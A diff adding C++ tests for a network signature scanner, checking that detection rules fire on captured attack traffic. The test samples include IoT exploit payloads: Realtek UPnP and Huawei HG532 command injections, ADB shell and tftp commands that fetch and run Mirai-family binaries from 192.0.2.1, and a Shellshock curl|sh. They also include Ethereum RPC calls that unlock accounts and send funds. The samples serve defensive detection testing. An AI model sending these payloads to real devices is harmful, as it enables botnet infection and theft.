@@ -1,0 +1,329 @@
+#include <catch2/catch.hpp>
+#include <unistd.h>
+
+#include <filesystem>
+#include <set>
+#include <string>
+#include <vector>
+
+#include "frame_builder.hpp"
+#include "packet/parser.hpp"
+#include "signature/signature_db.hpp"
+#include "signature/signature_scanner.hpp"
+
+using namespace scanscope;
+using namespace scanscope::test;
+
+namespace {
+
+const std::string rules_path = SCANSCOPE_SOURCE_DIR "/config/signatures.rules";
+
+const signature_db& default_db() {
+  static std::unique_ptr<signature_db> db = [] {
+    std::string error;
+    auto d = signature_db::load(rules_path, "", error);
+    INFO(error);
+    REQUIRE(d);
+    return d;
+  }();
+  return *db;
+}
+
+/** Scans TCP segments of one connection, or UDP datagrams, through a real scanner. */
+class connection {
+ public:
+  connection(signature_scanner& s, uint16_t dst_port, bool tcp = true)
+      : scanner_(s), dst_port_(dst_port), tcp_(tcp), src_port_(next_port_++) {}
+
+  /** Send one segment (or datagram); returns the names of the rules that hit. */
+  std::set<std::string> send(const std::string& payload) {
+    const bytes data(payload.begin(), payload.end());
+    bytes frame;
+    ipv4_fields ip;
+    if (tcp_) {
+      tcp_fields t;
+      t.src_port = src_port_;
+      t.dst_port = dst_port_;
+      t.seq = seq_;
+      t.flags = tcp_flag::psh | tcp_flag::ack;
+      frame = ethernet(0x0800) + ipv4(ip, tcp(t, data));
+      seq_ += static_cast<uint32_t>(data.size());
+    } else {
+      ip.proto = 17;
+      frame = ethernet(0x0800) + ipv4(ip, udp(src_port_, dst_port_, data));
+    }
+    decoded_packet p;
+    REQUIRE(parse_frame(frame.data(), frame.size(), p) == parse_result::ok);
+    signature_hits hits;
+    scanner_.scan(p, frame.data(), 1000, hits);
+    std::set<std::string> names;
+    for (unsigned i = 0; i < hits.count; ++i) {
+      names.insert(default_db().rules()[hits.rule[i]].name);
+    }
+    return names;
+  }
+
+ private:
+  signature_scanner& scanner_;
+  uint16_t dst_port_;
+  bool tcp_;
+  uint16_t src_port_;
+  uint32_t seq_ = 1000;
+  static inline uint16_t next_port_ = 20000;
+};
+
+std::unique_ptr<signature_scanner> make_scanner(const std::string& name) {
+  std::string error;
+  auto s = signature_scanner::create(default_db(), name, 256, 60000000000ULL, 65536, -1, error);
+  INFO(error);
+  REQUIRE(s);
+  return s;
+}
+
+std::string http_post(const std::string& path, const std::string& body,
+                      const std::string& extra_headers = "") {
+  return "POST " + path + " HTTP/1.1\r\nHost: 10.99.0.2:8545\r\n" + extra_headers +
+         "Content-Type: application/json\r\nContent-Length: " + std::to_string(body.size()) +
+         "\r\n\r\n" + body;
+}
+
+struct positive {
+  const char* rule;      // the rule that must fire
+  uint16_t port;         // destination port
+  std::string payload;   // what a real client sent (see the capture named in each comment)
+};
+
+// Bytes real clients sent, copied from the captures made by test/data/make-payload-captures.sh.
+std::vector<positive> positives() {
+  const std::string victim = "0x407d73d8a49eeb85d32cf465507dd71d507100c1";
+  auto rpc = [](const std::string& method, const std::string& params, int id) {
+    // ethers 6 (jsonrpc-ethers.pcap) orders the members method, params, id, jsonrpc.
+    return "{\"method\":\"" + method + "\",\"params\":" + params + ",\"id\":" +
+           std::to_string(id) + ",\"jsonrpc\":\"2.0\"}";
+  };
+  const std::string cnxn_header(
+      "CNXN\x01\x00\x00\x01\x00\x00\x10\x00\x77\x00\x00\x00\x40\x2e\x00\x00\xbc\xb1\xa7\xb1", 24);
+  const std::string upnp =
+      "POST /picsdesc.xml HTTP/1.1\r\nHost: 10.99.0.2:52869\r\nSOAPAction: "
+      "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n<?xml version=\"1.0\" "
+      "?><s:Envelope><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:"
+      "WANIPConnection:1\"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</"
+      "NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>"
+      "<NewInternalClient>`cd /var; rm -rf nig; wget http://192.0.2.1/bins/satori.mips -O nig; "
+      "chmod 777 nig; ./nig realtek.selfrep`</NewInternalClient></u:AddPortMapping></s:Body>"
+      "</s:Envelope>";
+  const std::string hg532 =
+      "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 10.99.0.2:37215\r\nAuthorization: Basic "
+      "ZHNsZi1jb25maWc6YWRtaW4=\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade "
+      "xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox "
+      "wget -g 192.0.2.1 -l /tmp/.f -r /bins/satori.mips; /tmp/.f huawei.selfrep)</NewStatusURL>"
+      "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>";
+  const std::string adb_shell =
+      std::string("OPEN\x01\x00\x00\x00\x00\x00\x00\x00\x5a\x00\x00\x00\x00\x00\x00\x00\xb0\xaf"
+                  "\xba\xb1",
+                  24) +
+      std::string("shell:cd /data/local/tmp; busybox wget http://192.0.2.1/ug.arm7 -O .x; chmod "
+                  "777 .x; ./.x\0",
+                  90);
+  return {
+      {"eth-accounts", 8545, http_post("/", rpc("eth_accounts", "[]", 1))},
+      {"eth-blocknumber", 8545, http_post("/", rpc("eth_blockNumber", "[]", 2))},
+      {"eth-getbalance", 8545, http_post("/", rpc("eth_getBalance", "[\"" + victim + "\",\"latest\"]", 3))},
+      {"net-version", 8545, http_post("/", rpc("net_version", "[]", 4))},
+      {"web3-clientversion", 8545, http_post("/", rpc("web3_clientVersion", "[]", 5))},
+      // curl -d (jsonrpc-curl.pcap) puts jsonrpc first.
+      {"eth-coinbase", 8545,
+       http_post("/", "{\"jsonrpc\":\"2.0\",\"method\":\"eth_coinbase\",\"params\":[],\"id\":1}")},
+      {"personal-listaccounts", 8545,
+       http_post("/", "{\"jsonrpc\":\"2.0\",\"method\":\"personal_listAccounts\",\"id\":1}")},
+      {"admin-nodeinfo", 8545, http_post("/", "{\"jsonrpc\":\"2.0\",\"method\": \"admin_peers\"}")},
+      {"personal-unlockaccount", 8545,
+       http_post("/", rpc("personal_unlockAccount", "[\"" + victim + "\",\"123456\",0]", 6))},
+      {"eth-sendtransaction", 8545,
+       http_post("/", rpc("eth_sendTransaction", "[{\"from\":\"" + victim +
+                                                      "\",\"to\":\"0xcdcd\",\"value\":\"0x1\"}]",
+                          9))},
+      {"eth-signtransaction", 8545, http_post("/", rpc("eth_signTransaction", "[{}]", 9))},
+      {"personal-sendtransaction", 8545,
+       http_post("/", rpc("personal_sendTransaction", "[{},\"pw\"]", 9))},
+      {"personal-newaccount", 8545, http_post("/", rpc("personal_newAccount", "[\"hijack\"]", 10))},
+      {"miner-setetherbase", 8545, http_post("/", rpc("miner_setEtherbase", "[\"0xcdcd\"]", 11))},
+      {"miner-start", 8545, http_post("/", rpc("miner_start", "[1]", 12))},
+      {"jsonrpc-batch", 8545,
+       http_post("/", "[" + rpc("eth_accounts", "[]", 1) + "," + rpc("net_version", "[]", 2) + "]")},
+      // nc with the Claymore request (claymore.pcap), as in the report of January 2018.
+      {"claymore-getstat1", 3333, "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat1\"}\n"},
+      {"claymore-getstat2", 3333, "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat2\"}\n"},
+      {"claymore-file", 3333,
+       "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_file\",\"params\":[\"reboot.bat\",\"\"]}\n"},
+      {"claymore-restart", 3333, "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_restart\"}\n"},
+      {"claymore-control-gpu", 3333,
+       "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"control_gpu\",\"params\":[0, 1]}\n"},
+      // adb 29 (adb.pcap) and, for the legacy version, the report's "43 4e 58 4e 00 00 00 01".
+      {"adb-cnxn", 5555, cnxn_header},
+      {"adb-cnxn-legacy", 5555,
+       std::string("CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00\x32\x02\x00\x00\xbc\xb1"
+                   "\xa7\xb1host::\x00",
+                   31)},
+      {"adb-host-banner", 5555, "host::features=remount_shell,abb_exec,abb,apex,shell_v2"},
+      {"adb-shell-download", 5555, adb_shell},
+      {"adb-shell-data-local-tmp", 5555, adb_shell},
+      {"adb-shell-chmod-run", 5555, adb_shell},
+      // curl with exploit-shaped bodies (exploits.pcap).
+      {"realtek-upnp-addportmapping", 52869, upnp},
+      {"upnp-picsdesc-post", 52869, upnp},
+      {"huawei-hg532-deviceupgrade", 37215, hg532},
+      {"huawei-hg532-injection", 37215, hg532},
+      {"wget-http", 52869, upnp},
+      {"busybox-wget-tftp", 37215, hg532},
+      {"tftp-get", 23, "cd /tmp; tftp -g -r mips 192.0.2.1; chmod 777 mips; ./mips\r\n"},
+      {"curl-download", 80,
+       "GET /x HTTP/1.1\r\nUser-Agent: () { :; }; curl -s http://192.0.2.1/i.sh | sh\r\n\r\n"},
+      {"mirai-family-binary", 52869, upnp},
+      {"bins-directory-binary", 37215, hg532},
+      {"selfrep-marker", 37215, hg532},
+  };
+}
+
+}  // namespace
+
+TEST_CASE("every default rule fires on real client bytes", "[signatures]") {
+  auto scanner = make_scanner("positives");
+  std::set<std::string> covered;
+  for (const positive& p : positives()) {
+    connection c(*scanner, p.port);
+    const auto hits = c.send(p.payload);
+    INFO(p.rule << " on port " << p.port);
+    CHECK(hits.count(p.rule) == 1);
+    covered.insert(p.rule);
+  }
+  for (const signature_rule& r : default_db().rules()) {
+    INFO("rule without a positive sample: " << r.name);
+    CHECK(covered.count(r.name) == 1);
+  }
+}
+
+TEST_CASE("benign look-alikes fire no rule", "[signatures]") {
+  auto scanner = make_scanner("negatives");
+  const std::pair<uint16_t, std::string> negatives[] = {
+      {52869, "GET / HTTP/1.1\r\nHost: 10.99.0.2:52869\r\nUser-Agent: curl/7.88.1\r\n\r\n"},
+      {37215,
+       "POST / HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n<?xml version=\"1.0\"?><s:Envelope>"
+       "<s:Body><u:GetExternalIPAddress/></s:Body></s:Envelope>"},
+      {8545, http_post("/", "{\"jsonrpc\":\"2.0\",\"method\":\"eth_gasPrice\",\"params\":[],\"id\":7}")},
+      {8545, http_post("/", "{\"accounts\":[],\"note\":\"eth_accounts is a method name\"}")},
+      {8545, http_post("/api", "{\"items\":[{\"id\":1},{\"id\":2}]}")},
+      {3333, "GET / HTTP/1.0\r\n\r\n"},
+      {3333, "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cgminer/4.10\"]}\n"},
+      {5555, std::string("CNXM\x01\x00\x00\x01", 8)},
+      {5555, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"},
+      {443, std::string("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11)},
+      {80, "GET /downloads/wget-manual.html HTTP/1.1\r\nHost: example.test\r\n\r\n"},
+      {80, "POST /upload HTTP/1.1\r\n\r\nfile=photo.arm&size=12"},
+  };
+  for (const auto& [port, payload] : negatives) {
+    connection c(*scanner, port);
+    INFO(payload);
+    CHECK(c.send(payload).empty());
+  }
+  // The rules are port-bound: Claymore's request to a web port is not Claymore.
+  connection web(*scanner, 80);
+  CHECK(web.send("{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat1\"}\n").empty());
+}
+
+TEST_CASE("signatures split over TCP segments match in stream mode", "[signatures]") {
+  auto scanner = make_scanner("split");
+  SECTION("adb sends the CNXN header and the host:: banner in separate segments") {
+    connection c(*scanner, 5555);
+    CHECK(c.send(std::string("CNXN\x01\x00\x00\x01\x00\x00\x10\x00\x77\x00\x00\x00\x40\x2e"
+                             "\x00\x00\xbc\xb1\xa7\xb1",
+                             24)) == std::set<std::string>{"adb-cnxn"});
+    CHECK(c.send("host::features=shell_v2,cmd") == std::set<std::string>{"adb-host-banner"});
+  }
+  SECTION("an HTTP body after its headers, split inside the method name") {
+    connection c(*scanner, 8545);
+    CHECK(c.send("POST / HTTP/1.1\r\nContent-Length: 60\r\n\r\n").empty());
+    CHECK(c.send("{\"jsonrpc\":\"2.0\",\"method\":\"personal_unlo").empty());
+    CHECK(c.send("ckAccount\",\"params\":[]}") ==
+          std::set<std::string>{"personal-unlockaccount"});
+  }
+  SECTION("each connection counts a rule once") {
+    connection c(*scanner, 8545);
+    CHECK(c.send(http_post("/", "{\"method\":\"eth_accounts\"}")).count("eth-accounts") == 1);
+    CHECK(c.send(http_post("/", "{\"method\":\"eth_accounts\"}")).empty());
+  }
+  SECTION("a datagram is scanned on its own") {
+    auto udp_db_scanner = make_scanner("udp");
+    connection c(*udp_db_scanner, 69, false);
+    CHECK(c.send("busybox tftp -g -r x 192.0.2.1").count("busybox-wget-tftp") == 0);  // tcp rule
+  }
+  CHECK(scanner->counters().errors.read() == 0);
+}
+
+TEST_CASE("bad rule files name the file, the line and the reason", "[signatures]") {
+  const std::pair<const char*, const char*> cases[] = {
+      {"rule 1 a recon tcp/80 /x/\nrul 2 b recon tcp/80 /y/\n", "f:2: expected 'rule ID"},
+      {"rule 0 a recon tcp/80 /x/\n", "f:1: rule id '0'"},
+      {"rule 1 a recon sctp/80 /x/\n", "f:1: rule 1: protocol 'sctp'"},
+      {"rule 1 a recon tcp/70000 /x/\n", "f:1: rule 1: port '70000'"},
+      {"rule 1 a recon tcp/80 depth=x /x/\n", "f:1: rule 1: 'depth=x' is neither"},
+      {"rule 1 a recon tcp/80 x\n", "f:1: rule 1: 'x' is neither offset=N, depth=N nor /PATTERN"},
+      {"rule 1 a recon tcp/80\n", "f:1: rule 1: missing /PATTERN/FLAGS"},
+      {"rule 1 a recon tcp/80 /x/q\n", "f:1: rule 1: unknown pattern flag 'q'"},
+      {"rule 1 a recon tcp/80 /x/\nrule 1 b recon tcp/80 /y/\n", "f:2: rule id 1 is used twice"},
+      {"rule 1 a recon tcp/80 offset=10 depth=5 /x/\n", "f:1: rule 1: depth must be larger"},
+      {"# only a comment\n", "f: no rules"},
+  };
+  for (const auto& [text, message] : cases) {
+    std::string error;
+    INFO(text);
+    CHECK_FALSE(parse_signature_rules(text, "f", error));
+    CHECK(error.rfind(message, 0) == 0);
+  }
+}
+
+TEST_CASE("rules Hyperscan rejects stop start-up with its message", "[signatures]") {
+  const std::pair<const char*, const char*> cases[] = {
+      // Hyperscan has no back-references.
+      {"rule 1 ok recon tcp/80 /fine/\nrule 7 backref recon tcp/80 /(a)\\1/\n",
+       "r.rules:2: rule 7 (backref): Hyperscan: "},
+      // A bounded repeat far beyond what Hyperscan builds.
+      {"rule 9 huge recon tcp/80 /a{2,100000}b{2,100000}c{2,100000}/\n",
+       "r.rules:1: rule 9 (huge): Hyperscan: "},
+      {"rule 3 unbalanced recon tcp/80 /(abc/\n", "r.rules:1: rule 3 (unbalanced): Hyperscan: "},
+  };
+  for (const auto& [text, message] : cases) {
+    std::string error;
+    auto rules = parse_signature_rules(text, "r.rules", error);
+    REQUIRE(rules);
+    INFO(text);
+    CHECK_FALSE(signature_db::build(std::move(*rules), "r.rules", text, "", error));
+    CHECK(error.rfind(message, 0) == 0);
+    CHECK(error.size() > std::string(message).size());
+  }
+  std::string error;
+  CHECK_FALSE(signature_db::load("/nonexistent/signatures.rules", "", error));
+  CHECK(error.find("/nonexistent/signatures.rules") != std::string::npos);
+}
+
+TEST_CASE("a compiled database is cached and loaded on the next start", "[signatures]") {
+  const auto dir = std::filesystem::temp_directory_path() /
+                   ("scanscope-hs-cache-" + std::to_string(::getpid()));
+  std::filesystem::remove_all(dir);
+  std::string error;
+  auto first = signature_db::load(rules_path, dir.string(), error);
+  REQUIRE(first);
+  CHECK(first->origin_note().rfind("compiled", 0) == 0);
+  auto second = signature_db::load(rules_path, dir.string(), error);
+  REQUIRE(second);
+  CHECK(second->origin_note().rfind("loaded from", 0) == 0);
+  CHECK(second->rules().size() == first->rules().size());
+  // A damaged cache file is ignored: the rules are compiled again.
+  for (const auto& entry : std::filesystem::directory_iterator(dir)) {
+    std::filesystem::resize_file(entry.path(), 100);
+  }
+  auto third = signature_db::load(rules_path, dir.string(), error);
+  REQUIRE(third);
+  CHECK(third->origin_note().rfind("compiled", 0) == 0);
+  std::filesystem::remove_all(dir);
+}
